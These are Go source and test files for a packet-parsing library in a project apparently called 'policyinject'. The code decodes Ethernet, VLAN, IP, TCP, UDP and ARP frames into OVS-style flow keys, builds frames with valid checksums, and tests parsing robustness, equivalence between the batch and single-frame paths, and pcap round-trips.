	if _, err := ReadPcap(bytes.NewReader([]byte{1, 2, 3})); err == nil {
		t.Error("truncated header accepted")
	}
	// Truncated record body.
	frames := someFrames(t, 1)
	var buf bytes.Buffer
	WritePcap(&buf, frames, 1)
	cut := buf.Bytes()[:buf.Len()-10]
	if _, err := ReadPcap(bytes.NewReader(cut)); err == nil {
		t.Error("truncated body accepted")
	}
	// Wrong link type.
	var buf2 bytes.Buffer
	WritePcap(&buf2, nil, 0)
	b := buf2.Bytes()
	binary.LittleEndian.PutUint32(b[20:24], 101) // raw IP
	if _, err := ReadPcap(bytes.NewReader(b)); err == nil {
		t.Error("non-Ethernet link type accepted")
	}
}
