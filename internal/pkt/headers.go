package pkt

import (
	"fmt"
	"net/netip"
)

// Ethernet is a decoded Ethernet header view.
type Ethernet struct {
	Dst, Src  MAC
	EtherType uint16
	VLAN      uint16 // TCI, 0 when untagged
	Payload   []byte
}

// DecodeEthernet parses the outermost Ethernet (and one optional 802.1Q
// tag) of frame.
func DecodeEthernet(frame []byte) (Ethernet, error) {
	var e Ethernet
	if len(frame) < EthHeaderLen {
		return e, fmt.Errorf("%w: Ethernet", ErrTruncated)
	}
	copy(e.Dst[:], frame[0:6])
	copy(e.Src[:], frame[6:12])
	e.EtherType = be16(frame[12:14])
	off := EthHeaderLen
	if e.EtherType == EtherTypeVLAN {
		if len(frame) < off+VLANTagLen {
			return e, fmt.Errorf("%w: VLAN tag", ErrTruncated)
		}
		e.VLAN = be16(frame[off : off+2])
		e.EtherType = be16(frame[off+2 : off+4])
		off += VLANTagLen
	}
	e.Payload = frame[off:]
	return e, nil
}

// IPv4 is a decoded IPv4 header view.
type IPv4 struct {
	TOS      uint8
	TotalLen uint16
	TTL      uint8
	Proto    uint8
	Src, Dst netip.Addr
	Payload  []byte
}

// DecodeIPv4 parses an IPv4 packet (starting at the IP header).
func DecodeIPv4(b []byte) (IPv4, error) {
	var p IPv4
	if len(b) < IPv4HeaderLen {
		return p, fmt.Errorf("%w: IPv4", ErrTruncated)
	}
	if b[0]>>4 != 4 {
		return p, fmt.Errorf("%w: version %d", ErrBadVersion, b[0]>>4)
	}
	ihl := int(b[0]&0x0f) * 4
	if ihl < IPv4HeaderLen || len(b) < ihl {
		return p, fmt.Errorf("%w: IHL %d", ErrBadIHL, ihl)
	}
	p.TOS = b[1]
	p.TotalLen = be16(b[2:4])
	p.TTL = b[8]
	p.Proto = b[9]
	p.Src = netip.AddrFrom4([4]byte(b[12:16]))
	p.Dst = netip.AddrFrom4([4]byte(b[16:20]))
	p.Payload = b[ihl:]
	return p, nil
}

// Transport is a decoded TCP or UDP header view.
type Transport struct {
	SrcPort, DstPort uint16
	TCPFlags         uint8 // TCP only
	Payload          []byte
}

// DecodeTransport parses the transport header for proto.
func DecodeTransport(proto uint8, b []byte) (Transport, error) {
	var t Transport
	switch proto {
	case ProtoTCP:
		if len(b) < TCPHeaderLen {
			return t, fmt.Errorf("%w: TCP", ErrTruncated)
		}
		t.SrcPort = be16(b[0:2])
		t.DstPort = be16(b[2:4])
		t.TCPFlags = b[13]
		dataOff := int(b[12]>>4) * 4
		if dataOff < TCPHeaderLen || dataOff > len(b) {
			return t, fmt.Errorf("%w: TCP data offset %d", ErrTruncated, dataOff)
		}
		t.Payload = b[dataOff:]
		return t, nil
	case ProtoUDP:
		if len(b) < UDPHeaderLen {
			return t, fmt.Errorf("%w: UDP", ErrTruncated)
		}
		t.SrcPort = be16(b[0:2])
		t.DstPort = be16(b[2:4])
		t.Payload = b[UDPHeaderLen:]
		return t, nil
	default:
		return t, fmt.Errorf("%w: proto %d", ErrUnsupported, proto)
	}
}

// Summary renders a one-line description of a frame for logs and the dpctl
// tool, e.g. "10.0.0.1:4242 > 10.0.0.2:80 tcp len=1500".
func Summary(frame []byte) string {
	eth, err := DecodeEthernet(frame)
	if err != nil {
		return fmt.Sprintf("<%v>", err)
	}
	switch eth.EtherType {
	case EtherTypeIPv4:
		ip, err := DecodeIPv4(eth.Payload)
		if err != nil {
			return fmt.Sprintf("<%v>", err)
		}
		switch ip.Proto {
		case ProtoTCP, ProtoUDP:
			tp, err := DecodeTransport(ip.Proto, ip.Payload)
			if err != nil {
				return fmt.Sprintf("<%v>", err)
			}
			name := "tcp"
			if ip.Proto == ProtoUDP {
				name = "udp"
			}
			return fmt.Sprintf("%s:%d > %s:%d %s len=%d",
				ip.Src, tp.SrcPort, ip.Dst, tp.DstPort, name, len(frame))
		case ProtoICMP:
			return fmt.Sprintf("%s > %s icmp len=%d", ip.Src, ip.Dst, len(frame))
		default:
			return fmt.Sprintf("%s > %s proto=%d len=%d", ip.Src, ip.Dst, ip.Proto, len(frame))
		}
	case EtherTypeARP:
		return fmt.Sprintf("arp len=%d", len(frame))
	case EtherTypeIPv6:
		return fmt.Sprintf("ipv6 len=%d", len(frame))
	default:
		return fmt.Sprintf("ethertype=%#04x len=%d", eth.EtherType, len(frame))
	}
}

func (m MAC) String() string {
	return fmt.Sprintf("%02x:%02x:%02x:%02x:%02x:%02x", m[0], m[1], m[2], m[3], m[4], m[5])
}
