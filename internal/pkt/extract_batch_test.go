package pkt

import (
	"bytes"
	"net/netip"
	"testing"

	"policyinject/internal/flow"
)

// corpusFrames builds the wire-shape corpus the batch-equivalence tests
// sweep: every L3/L4 combination the builder produces, ARP, VLAN tags,
// fragments, unsupported protocols, and every truncation prefix of a
// known-good frame — the shapes that exercise both the fast path and
// every fallback branch of ExtractBatch.
func corpusFrames(t testing.TB) [][]byte {
	t.Helper()
	v4a, v4b := netip.MustParseAddr("10.0.0.1"), netip.MustParseAddr("172.16.0.2")
	v6a, v6b := netip.MustParseAddr("2001:db8::1"), netip.MustParseAddr("2001:db8::2")
	frames := [][]byte{
		MustBuild(Spec{Src: v4a, Dst: v4b, Proto: ProtoTCP, SrcPort: 40000, DstPort: 443}),
		MustBuild(Spec{Src: v4a, Dst: v4b, Proto: ProtoTCP, SrcPort: 1, DstPort: 2, FrameLen: 1514, TCPFlags: TCPAck}),
		MustBuild(Spec{Src: v4a, Dst: v4b, Proto: ProtoUDP, SrcPort: 53, DstPort: 53}),
		MustBuild(Spec{Src: v4a, Dst: v4b, Proto: ProtoICMP, SrcPort: 8, DstPort: 0}),
		MustBuild(Spec{Src: v4a, Dst: v4b, Proto: ProtoTCP, SrcPort: 7, DstPort: 7, VLAN: 0x2042}),
		MustBuild(Spec{Src: v6a, Dst: v6b, Proto: ProtoTCP, SrcPort: 9, DstPort: 10}),
		MustBuild(Spec{Src: v6a, Dst: v6b, Proto: ProtoUDP, SrcPort: 11, DstPort: 12, VLAN: 5}),
		MustBuild(Spec{Src: v6a, Dst: v6b, Proto: ProtoICMPv6, SrcPort: 128, DstPort: 0}),
		MustBuild(Spec{Src: v4a, Dst: v4b, Proto: ProtoTCP, SrcPort: 3, DstPort: 4, TOS: 0xb8}),
		BuildARP(1, MAC{2, 0, 0, 0, 0, 1}, v4a, v4b, MAC{}),
		BuildARP(2, MAC{2, 0, 0, 0, 0, 1}, v4a, v4b, MAC{2, 0, 0, 0, 0, 2}),
		{}, // empty frame
	}
	// Unsupported EtherType and IP protocol.
	weird := MustBuild(Spec{Src: v4a, Dst: v4b, Proto: ProtoTCP, SrcPort: 1, DstPort: 2})
	badEth := append([]byte(nil), weird...)
	badEth[12], badEth[13] = 0x88, 0xcc // LLDP
	frames = append(frames, badEth)
	badProto := append([]byte(nil), weird...)
	badProto[EthHeaderLen+9] = 132 // SCTP
	frames = append(frames, badProto)
	// IPv4 options (IHL 6): fast path must fall back, scalar must agree.
	opts := append([]byte(nil), weird...)
	opts[EthHeaderLen] = 0x46
	frames = append(frames, opts)
	// Fragments: later fragment (offset != 0) and first fragment (MF set).
	later := append([]byte(nil), weird...)
	later[EthHeaderLen+6] = 0x00
	later[EthHeaderLen+7] = 0x10
	frames = append(frames, later)
	first := append([]byte(nil), weird...)
	first[EthHeaderLen+6] = 0x20
	frames = append(frames, first)
	// DF bit set: still the fast-path shape.
	df := append([]byte(nil), weird...)
	df[EthHeaderLen+6] = 0x40
	frames = append(frames, df)
	// Single-VLAN IPv4 shapes: the tagged fast path (UDP and TCP, zero and
	// non-zero TCI), plus its fallbacks — tagged fragment, tagged IPv4
	// options, and a QinQ outer tag (inner EtherType is VLAN again).
	vlanUDP := MustBuild(Spec{Src: v4a, Dst: v4b, Proto: ProtoUDP, SrcPort: 67, DstPort: 68, VLAN: 100})
	vlanTCP := MustBuild(Spec{Src: v4a, Dst: v4b, Proto: ProtoTCP, SrcPort: 80, DstPort: 8080, VLAN: 0x0fff, TCPFlags: TCPAck, TOS: 4})
	frames = append(frames, vlanUDP, vlanTCP)
	vlanFrag := append([]byte(nil), vlanTCP...)
	vlanFrag[EthHeaderLen+VLANTagLen+6] = 0x20
	frames = append(frames, vlanFrag)
	vlanOpts := append([]byte(nil), vlanTCP...)
	vlanOpts[EthHeaderLen+VLANTagLen] = 0x46
	frames = append(frames, vlanOpts)
	qinq := append([]byte(nil), vlanTCP...)
	qinq[16], qinq[17] = 0x81, 0x00
	frames = append(frames, qinq)
	// Every truncation prefix of a TCP frame, untagged and tagged.
	for n := 0; n < len(weird); n += 3 {
		frames = append(frames, weird[:n])
	}
	for n := 0; n < len(vlanTCP); n += 3 {
		frames = append(frames, vlanTCP[:n])
	}
	// Round-trip the whole corpus through the pcap writer/reader: the
	// capture path must deliver bit-identical frames into the batch.
	var buf bytes.Buffer
	if err := WritePcap(&buf, frames, 10); err != nil {
		t.Fatalf("WritePcap: %v", err)
	}
	rt, err := ReadPcap(&buf)
	if err != nil {
		t.Fatalf("ReadPcap: %v", err)
	}
	return append(frames, rt...)
}

// checkBatchEqualsScalar pins the ExtractBatch contract: identical keys
// and identical errors (same nil-ness, same message) to a frame-by-frame
// Extract loop, plus a correct malformed-frame count.
func checkBatchEqualsScalar(t testing.TB, frames [][]byte, inPorts []uint32) {
	t.Helper()
	keys := make([]flow.Key, len(frames))
	errs := make([]error, len(frames))
	bad := ExtractBatch(frames, inPorts, keys, errs)
	wantBad := 0
	for i, f := range frames {
		wantK, wantErr := Extract(f, inPorts[i])
		if wantErr != nil {
			wantBad++
		}
		if keys[i] != wantK {
			t.Fatalf("frame %d (%d bytes): batch key %v != scalar key %v", i, len(f), keys[i], wantK)
		}
		if (errs[i] == nil) != (wantErr == nil) {
			t.Fatalf("frame %d: batch err %v, scalar err %v", i, errs[i], wantErr)
		}
		if errs[i] != nil && errs[i].Error() != wantErr.Error() {
			t.Fatalf("frame %d: batch err %q != scalar err %q", i, errs[i], wantErr)
		}
	}
	if bad != wantBad {
		t.Fatalf("ExtractBatch reported %d malformed frames, scalar loop found %d", bad, wantBad)
	}
}

// TestExtractBatchEqualsScalarLoop is the batch==scalar property over the
// built-frame and pcap corpus, with varied in-ports.
func TestExtractBatchEqualsScalarLoop(t *testing.T) {
	frames := corpusFrames(t)
	inPorts := make([]uint32, len(frames))
	for i := range inPorts {
		inPorts[i] = uint32(i % 7)
	}
	checkBatchEqualsScalar(t, frames, inPorts)
}

// TestExtractBatchCountsMalformed pins the per-frame error policy: a
// malformed frame fills its own error slot and the others still decode.
func TestExtractBatchCountsMalformed(t *testing.T) {
	good := MustBuild(Spec{
		Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.2"),
		Proto: ProtoTCP, SrcPort: 1, DstPort: 2,
	})
	frames := [][]byte{good, good[:10], good}
	keys := make([]flow.Key, 3)
	errs := make([]error, 3)
	if bad := ExtractBatch(frames, []uint32{1, 1, 1}, keys, errs); bad != 1 {
		t.Fatalf("bad = %d, want 1", bad)
	}
	if errs[0] != nil || errs[2] != nil || errs[1] == nil {
		t.Fatalf("error slots: %v", errs)
	}
	if keys[0] != keys[2] {
		t.Fatal("identical frames decoded to different keys")
	}
}

// TestExtractBatchPanicsOnLengthMismatch pins the no-silent-truncation
// contract.
func TestExtractBatchPanicsOnLengthMismatch(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("mismatched slice lengths did not panic")
		}
	}()
	ExtractBatch(make([][]byte, 2), make([]uint32, 2), make([]flow.Key, 1), make([]error, 2))
}

// BenchmarkExtractBatch measures the amortised parse cost of the burst
// path against the scalar loop (see BenchmarkExtract for the single-frame
// baseline).
func BenchmarkExtractBatch(b *testing.B) {
	frame := MustBuild(Spec{
		Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.2"),
		Proto: ProtoTCP, SrcPort: 40000, DstPort: 443, FrameLen: 1514,
	})
	const n = 256
	frames := make([][]byte, n)
	inPorts := make([]uint32, n)
	for i := range frames {
		frames[i] = frame
		inPorts[i] = 1
	}
	keys := make([]flow.Key, n)
	errs := make([]error, n)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ExtractBatch(frames, inPorts, keys, errs)
	}
	b.ReportMetric(n, "burst")
}
