package pkt

import (
	"errors"
	"math/rand"
	"net/netip"
	"strings"
	"testing"

	"policyinject/internal/flow"
)

func tcpSpec() Spec {
	return Spec{
		Src:      netip.MustParseAddr("10.0.0.1"),
		Dst:      netip.MustParseAddr("10.0.0.2"),
		Proto:    ProtoTCP,
		SrcPort:  4242,
		DstPort:  80,
		TCPFlags: TCPSyn | TCPAck,
	}
}

func TestBuildExtractTCP(t *testing.T) {
	f := MustBuild(tcpSpec())
	k, err := Extract(f, 3)
	if err != nil {
		t.Fatal(err)
	}
	checks := []struct {
		field flow.FieldID
		want  uint64
	}{
		{flow.FieldInPort, 3},
		{flow.FieldEthType, flow.EthTypeIPv4},
		{flow.FieldIPProto, flow.ProtoTCP},
		{flow.FieldIPSrc, 0x0a000001},
		{flow.FieldIPDst, 0x0a000002},
		{flow.FieldTPSrc, 4242},
		{flow.FieldTPDst, 80},
		{flow.FieldTCPFlags, TCPSyn | TCPAck},
	}
	for _, c := range checks {
		if got := k.Get(c.field); got != c.want {
			t.Errorf("%s = %#x, want %#x", c.field.Name(), got, c.want)
		}
	}
}

func TestBuildExtractUDP(t *testing.T) {
	s := tcpSpec()
	s.Proto = ProtoUDP
	s.PayloadLen = 100
	f := MustBuild(s)
	k, err := Extract(f, 1)
	if err != nil {
		t.Fatal(err)
	}
	if got := k.Get(flow.FieldIPProto); got != flow.ProtoUDP {
		t.Errorf("proto = %d", got)
	}
	if got := k.Get(flow.FieldTPDst); got != 80 {
		t.Errorf("tp_dst = %d", got)
	}
	if got := k.Get(flow.FieldTCPFlags); got != 0 {
		t.Errorf("tcp_flags must be zero for UDP, got %#x", got)
	}
}

func TestBuildExtractICMP(t *testing.T) {
	s := tcpSpec()
	s.Proto = ProtoICMP
	s.SrcPort, s.DstPort = 8, 0 // echo request
	f := MustBuild(s)
	k, err := Extract(f, 1)
	if err != nil {
		t.Fatal(err)
	}
	if got := k.Get(flow.FieldICMPType); got != 8 {
		t.Errorf("icmp_type = %d", got)
	}
	if got := k.Get(flow.FieldTPSrc); got != 0 {
		t.Errorf("tp_src leaked for ICMP: %d", got)
	}
}

func TestBuildExtractVLAN(t *testing.T) {
	s := tcpSpec()
	s.VLAN = 0x2123 // PCP 1, VID 0x123
	f := MustBuild(s)
	k, err := Extract(f, 1)
	if err != nil {
		t.Fatal(err)
	}
	if got := k.Get(flow.FieldVLANTCI); got != 0x2123 {
		t.Errorf("vlan_tci = %#x", got)
	}
	if got := k.Get(flow.FieldEthType); got != flow.EthTypeIPv4 {
		t.Errorf("eth_type = %#x (must be inner type)", got)
	}
}

func TestBuildExtractIPv6(t *testing.T) {
	s := Spec{
		Src:     netip.MustParseAddr("2001:db8::1"),
		Dst:     netip.MustParseAddr("2001:db8::99"),
		Proto:   ProtoUDP,
		SrcPort: 1000,
		DstPort: 53,
	}
	f := MustBuild(s)
	k, err := Extract(f, 9)
	if err != nil {
		t.Fatal(err)
	}
	if got := k.Get(flow.FieldEthType); got != flow.EthTypeIPv6 {
		t.Errorf("eth_type = %#x", got)
	}
	if got := k.Get(flow.FieldIPv6DstLo); got != 0x99 {
		t.Errorf("ipv6_dst_lo = %#x", got)
	}
	if got := k.Get(flow.FieldTPDst); got != 53 {
		t.Errorf("tp_dst = %d", got)
	}
}

func TestBuildARPExtract(t *testing.T) {
	f := BuildARP(1, MAC{2, 0, 0, 0, 0, 1},
		netip.MustParseAddr("10.0.0.1"), netip.MustParseAddr("10.0.0.2"), MAC{})
	k, err := Extract(f, 1)
	if err != nil {
		t.Fatal(err)
	}
	if got := k.Get(flow.FieldEthType); got != flow.EthTypeARP {
		t.Errorf("eth_type = %#x", got)
	}
	if got := k.Get(flow.FieldARPOp); got != 1 {
		t.Errorf("arp_op = %d", got)
	}
	if got := k.Get(flow.FieldIPSrc); got != 0x0a000001 {
		t.Errorf("arp spa = %#x", got)
	}
}

func TestFrameLenPadding(t *testing.T) {
	s := tcpSpec()
	s.FrameLen = 1500
	f := MustBuild(s)
	if len(f) != 1500 {
		t.Fatalf("frame len = %d", len(f))
	}
	// Padding must not disturb parsing.
	k, err := Extract(f, 1)
	if err != nil {
		t.Fatal(err)
	}
	if got := k.Get(flow.FieldTPDst); got != 80 {
		t.Errorf("tp_dst = %d after padding", got)
	}
}

func TestIPv4HeaderChecksumValid(t *testing.T) {
	f := MustBuild(tcpSpec())
	eth, err := DecodeEthernet(f)
	if err != nil {
		t.Fatal(err)
	}
	if !VerifyIPv4Header(eth.Payload[:IPv4HeaderLen]) {
		t.Error("IPv4 header checksum does not verify")
	}
	// Corrupt a byte: verification must fail.
	eth.Payload[8] ^= 0xff
	if VerifyIPv4Header(eth.Payload[:IPv4HeaderLen]) {
		t.Error("corrupted header still verifies")
	}
}

func TestTCPChecksumValid(t *testing.T) {
	f := MustBuild(tcpSpec())
	eth, _ := DecodeEthernet(f)
	ip, err := DecodeIPv4(eth.Payload)
	if err != nil {
		t.Fatal(err)
	}
	src, dst := ip.Src.As4(), ip.Dst.As4()
	if got := PseudoChecksum(src[:], dst[:], ProtoTCP, ip.Payload); got != 0 {
		t.Errorf("TCP segment does not checksum to zero: %#x", got)
	}
}

func TestUDPChecksumValid(t *testing.T) {
	s := tcpSpec()
	s.Proto = ProtoUDP
	s.PayloadLen = 37 // odd length exercises the trailing-byte path
	f := MustBuild(s)
	eth, _ := DecodeEthernet(f)
	ip, _ := DecodeIPv4(eth.Payload)
	src, dst := ip.Src.As4(), ip.Dst.As4()
	if got := PseudoChecksum(src[:], dst[:], ProtoUDP, ip.Payload); got != 0 {
		t.Errorf("UDP segment does not checksum to zero: %#x", got)
	}
}

func TestChecksumKnownVector(t *testing.T) {
	// RFC 1071 example: 0001 f203 f4f5 f6f7 -> checksum 0x220d.
	b := []byte{0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7}
	if got := Checksum(b); got != 0x220d {
		t.Errorf("Checksum = %#04x, want 0x220d", got)
	}
}

func TestExtractTruncated(t *testing.T) {
	f := MustBuild(tcpSpec())
	for _, cut := range []int{0, 5, 13, EthHeaderLen + 3, EthHeaderLen + IPv4HeaderLen + 2} {
		_, err := Extract(f[:cut], 1)
		if !errors.Is(err, ErrTruncated) {
			t.Errorf("cut=%d: err = %v, want ErrTruncated", cut, err)
		}
	}
}

func TestExtractUnsupportedEtherType(t *testing.T) {
	f := MustBuild(tcpSpec())
	f[12], f[13] = 0x88, 0xcc // LLDP
	k, err := Extract(f, 1)
	if !errors.Is(err, ErrUnsupported) {
		t.Fatalf("err = %v", err)
	}
	// L2 fields must still be present.
	if got := k.Get(flow.FieldEthType); got != 0x88cc {
		t.Errorf("eth_type = %#x", got)
	}
}

func TestExtractFragment(t *testing.T) {
	f := MustBuild(tcpSpec())
	// Set fragment offset 100 on the IPv4 header and fix the checksum.
	ip := f[EthHeaderLen:]
	ip[6], ip[7] = 0x00, 100
	put16(ip[10:12], 0)
	put16(ip[10:12], Checksum(ip[:IPv4HeaderLen]))
	k, err := Extract(f, 1)
	if err != nil {
		t.Fatal(err)
	}
	if got := k.Get(flow.FieldIPFrag); got != 2 {
		t.Errorf("ip_frag = %d, want 2 (later fragment)", got)
	}
	if got := k.Get(flow.FieldTPDst); got != 0 {
		t.Errorf("L4 parsed inside a later fragment: tp_dst=%d", got)
	}
}

func TestExtractBadVersion(t *testing.T) {
	f := MustBuild(tcpSpec())
	f[EthHeaderLen] = 0x65 // version 6 inside an 0x0800 frame
	if _, err := Extract(f, 1); !errors.Is(err, ErrBadVersion) {
		t.Errorf("err = %v", err)
	}
}

func TestExtractBadIHL(t *testing.T) {
	f := MustBuild(tcpSpec())
	f[EthHeaderLen] = 0x42 // IHL 2 words
	if _, err := Extract(f, 1); !errors.Is(err, ErrBadIHL) {
		t.Errorf("err = %v", err)
	}
}

func TestExtractDoesNotAllocate(t *testing.T) {
	f := MustBuild(tcpSpec())
	n := testing.AllocsPerRun(200, func() {
		if _, err := Extract(f, 1); err != nil {
			t.Fatal(err)
		}
	})
	if n > 0 {
		t.Errorf("Extract allocates %.1f objects per run, want 0", n)
	}
}

func TestBuildErrors(t *testing.T) {
	if _, err := Build(Spec{}); err == nil {
		t.Error("Build with no addresses succeeded")
	}
	if _, err := Build(Spec{
		Src:   netip.MustParseAddr("10.0.0.1"),
		Dst:   netip.MustParseAddr("::1"),
		Proto: ProtoTCP,
	}); err == nil {
		t.Error("Build with mixed families succeeded")
	}
	if _, err := Build(Spec{
		Src:   netip.MustParseAddr("10.0.0.1"),
		Dst:   netip.MustParseAddr("10.0.0.2"),
		Proto: 200,
	}); !errors.Is(err, ErrUnsupported) {
		t.Errorf("unsupported proto: err = %v", err)
	}
}

func TestSummary(t *testing.T) {
	s := tcpSpec()
	s.FrameLen = 1500
	got := Summary(MustBuild(s))
	want := "10.0.0.1:4242 > 10.0.0.2:80 tcp len=1500"
	if got != want {
		t.Errorf("Summary = %q, want %q", got, want)
	}
	if !strings.Contains(Summary(MustBuild(Spec{
		Src: netip.MustParseAddr("1.1.1.1"), Dst: netip.MustParseAddr("2.2.2.2"),
		Proto: ProtoICMP,
	})), "icmp") {
		t.Error("ICMP summary missing protocol")
	}
}

// Fuzz-style robustness: Extract must never panic on arbitrary bytes.
func TestExtractNeverPanics(t *testing.T) {
	rng := rand.New(rand.NewSource(99))
	base := MustBuild(tcpSpec())
	for trial := 0; trial < 20000; trial++ {
		var b []byte
		if trial%2 == 0 {
			b = make([]byte, rng.Intn(80))
			rng.Read(b)
		} else {
			b = append([]byte(nil), base...)
			for i := 0; i < 4; i++ {
				b[rng.Intn(len(b))] ^= byte(rng.Intn(256))
			}
			b = b[:rng.Intn(len(b)+1)]
		}
		Extract(b, 1) // must not panic; errors are fine
	}
}

func TestRoundTripRandomSpecs(t *testing.T) {
	rng := rand.New(rand.NewSource(2024))
	protos := []uint8{ProtoTCP, ProtoUDP, ProtoICMP}
	for trial := 0; trial < 1000; trial++ {
		s := Spec{
			Src:     netip.AddrFrom4([4]byte{10, byte(rng.Intn(256)), byte(rng.Intn(256)), byte(rng.Intn(256))}),
			Dst:     netip.AddrFrom4([4]byte{192, 168, byte(rng.Intn(256)), byte(rng.Intn(256))}),
			Proto:   protos[rng.Intn(len(protos))],
			TOS:     uint8(rng.Intn(256)),
			SrcPort: uint16(rng.Intn(65536)),
			DstPort: uint16(rng.Intn(65536)),
		}
		if s.Proto == ProtoICMP {
			s.SrcPort &= 0xff
			s.DstPort &= 0xff
		}
		k, err := Extract(MustBuild(s), 1)
		if err != nil {
			t.Fatalf("trial %d: %v", trial, err)
		}
		if got := k.Get(flow.FieldIPSrc); got != uint64(flow.V4(s.Src)) {
			t.Fatalf("trial %d: ip_src %#x", trial, got)
		}
		if got := k.Get(flow.FieldIPTOS); got != uint64(s.TOS) {
			t.Fatalf("trial %d: tos %#x want %#x", trial, got, s.TOS)
		}
		switch s.Proto {
		case ProtoTCP, ProtoUDP:
			if got := k.Get(flow.FieldTPSrc); got != uint64(s.SrcPort) {
				t.Fatalf("trial %d: tp_src %d", trial, got)
			}
		case ProtoICMP:
			if got := k.Get(flow.FieldICMPType); got != uint64(s.SrcPort) {
				t.Fatalf("trial %d: icmp_type %d", trial, got)
			}
		}
	}
}
