// Package pkt implements the wire formats the dataplane handles: Ethernet
// (with 802.1Q), ARP, IPv4, IPv6, TCP, UDP and ICMP. It provides
//
//   - Extract: a zero-allocation decoder from a raw frame to a flow.Key,
//     the hot-path operation of the hypervisor switch (in the spirit of
//     gopacket's DecodingLayerParser: decode into preallocated storage,
//     no per-packet heap traffic);
//   - Builder: frame construction with correct lengths and checksums, used
//     by the traffic generators and the attack's covert-stream synthesiser;
//   - typed header views for diagnostics and tests.
//
// Only the fields the classifier matches on are modelled in depth;
// payloads are opaque bytes.
package pkt

import "errors"

// MAC is an Ethernet hardware address.
type MAC [6]byte

// Header sizes in bytes.
const (
	EthHeaderLen  = 14
	VLANTagLen    = 4
	ARPLen        = 28
	IPv4HeaderLen = 20 // without options
	IPv6HeaderLen = 40
	TCPHeaderLen  = 20 // without options
	UDPHeaderLen  = 8
	ICMPHeaderLen = 8
)

// EtherTypes (host byte order).
const (
	EtherTypeIPv4 = 0x0800
	EtherTypeARP  = 0x0806
	EtherTypeVLAN = 0x8100
	EtherTypeIPv6 = 0x86dd
)

// IP protocol numbers.
const (
	ProtoICMP   = 1
	ProtoTCP    = 6
	ProtoUDP    = 17
	ProtoICMPv6 = 58
)

// TCP flag bits.
const (
	TCPFin = 1 << 0
	TCPSyn = 1 << 1
	TCPRst = 1 << 2
	TCPPsh = 1 << 3
	TCPAck = 1 << 4
	TCPUrg = 1 << 5
)

// Decoding errors. Extract returns errors wrapping these sentinels so
// callers can count malformed-frame classes separately.
var (
	ErrTruncated   = errors.New("pkt: truncated frame")
	ErrBadVersion  = errors.New("pkt: IP version mismatch")
	ErrBadIHL      = errors.New("pkt: bad IPv4 header length")
	ErrUnsupported = errors.New("pkt: unsupported protocol")
)

func be16(b []byte) uint16 { _ = b[1]; return uint16(b[0])<<8 | uint16(b[1]) }
func be32(b []byte) uint32 {
	_ = b[3]
	return uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
}
func put16(b []byte, v uint16) { _ = b[1]; b[0] = byte(v >> 8); b[1] = byte(v) }
func put32(b []byte, v uint32) {
	_ = b[3]
	b[0] = byte(v >> 24)
	b[1] = byte(v >> 16)
	b[2] = byte(v >> 8)
	b[3] = byte(v)
}
