package pkt

import (
	"fmt"

	"policyinject/internal/flow"
)

// Extract parses frame into the canonical flow key for a packet received on
// inPort. It performs no heap allocation: all state lives in the returned
// Key. Unknown EtherTypes and IP protocols still produce a Key carrying the
// L2/L3 fields that were understood; the error (wrapping ErrUnsupported)
// tells the caller the L4 fields are absent, mirroring how OVS classifies
// packets it cannot fully parse.
//
// This is the full scalar decoder — the fallback ExtractBatch takes for
// frames outside the dominant wire shapes, and the explicit cold side of
// the extract hot/cold boundary: its error paths may allocate.
//
//lint:coldpath
func Extract(frame []byte, inPort uint32) (flow.Key, error) {
	var k flow.Key
	k.Set(flow.FieldInPort, uint64(inPort))

	if len(frame) < EthHeaderLen {
		return k, fmt.Errorf("%w: %d bytes of %d-byte Ethernet header", ErrTruncated, len(frame), EthHeaderLen)
	}
	k.Set(flow.FieldEthDst, mac48(frame[0:6]))
	k.Set(flow.FieldEthSrc, mac48(frame[6:12]))
	etherType := be16(frame[12:14])
	off := EthHeaderLen

	if etherType == EtherTypeVLAN {
		if len(frame) < off+VLANTagLen {
			return k, fmt.Errorf("%w: VLAN tag", ErrTruncated)
		}
		k.Set(flow.FieldVLANTCI, uint64(be16(frame[off:off+2])))
		etherType = be16(frame[off+2 : off+4])
		off += VLANTagLen
	}
	k.Set(flow.FieldEthType, uint64(etherType))

	switch etherType {
	case EtherTypeIPv4:
		return extractIPv4(frame[off:], k)
	case EtherTypeIPv6:
		return extractIPv6(frame[off:], k)
	case EtherTypeARP:
		return extractARP(frame[off:], k)
	default:
		return k, fmt.Errorf("%w: ethertype %#04x", ErrUnsupported, etherType)
	}
}

func extractARP(b []byte, k flow.Key) (flow.Key, error) {
	if len(b) < ARPLen {
		return k, fmt.Errorf("%w: ARP", ErrTruncated)
	}
	k.Set(flow.FieldARPOp, uint64(be16(b[6:8])))
	// ARP SPA/TPA ride in the IPv4 address fields, as in the OVS flow key.
	k.Set(flow.FieldIPSrc, uint64(be32(b[14:18])))
	k.Set(flow.FieldIPDst, uint64(be32(b[24:28])))
	return k, nil
}

func extractIPv4(b []byte, k flow.Key) (flow.Key, error) {
	if len(b) < IPv4HeaderLen {
		return k, fmt.Errorf("%w: IPv4 header", ErrTruncated)
	}
	if v := b[0] >> 4; v != 4 {
		return k, fmt.Errorf("%w: version %d in IPv4 packet", ErrBadVersion, v)
	}
	ihl := int(b[0]&0x0f) * 4
	if ihl < IPv4HeaderLen || len(b) < ihl {
		return k, fmt.Errorf("%w: IHL %d", ErrBadIHL, ihl)
	}
	k.Set(flow.FieldIPTOS, uint64(b[1]))
	proto := b[9]
	k.Set(flow.FieldIPProto, uint64(proto))
	k.Set(flow.FieldIPSrc, uint64(be32(b[12:16])))
	k.Set(flow.FieldIPDst, uint64(be32(b[16:20])))

	fragOff := be16(b[6:8]) & 0x1fff
	moreFrag := b[6]&0x20 != 0
	if fragOff != 0 {
		// Later fragment: no L4 header present. Flag it and stop, as the
		// OVS flow key does with its "later fragment" bit.
		k.Set(flow.FieldIPFrag, 2)
		return k, nil
	}
	if moreFrag {
		k.Set(flow.FieldIPFrag, 1)
	}
	return extractL4(b[ihl:], proto, k)
}

func extractIPv6(b []byte, k flow.Key) (flow.Key, error) {
	if len(b) < IPv6HeaderLen {
		return k, fmt.Errorf("%w: IPv6 header", ErrTruncated)
	}
	if v := b[0] >> 4; v != 6 {
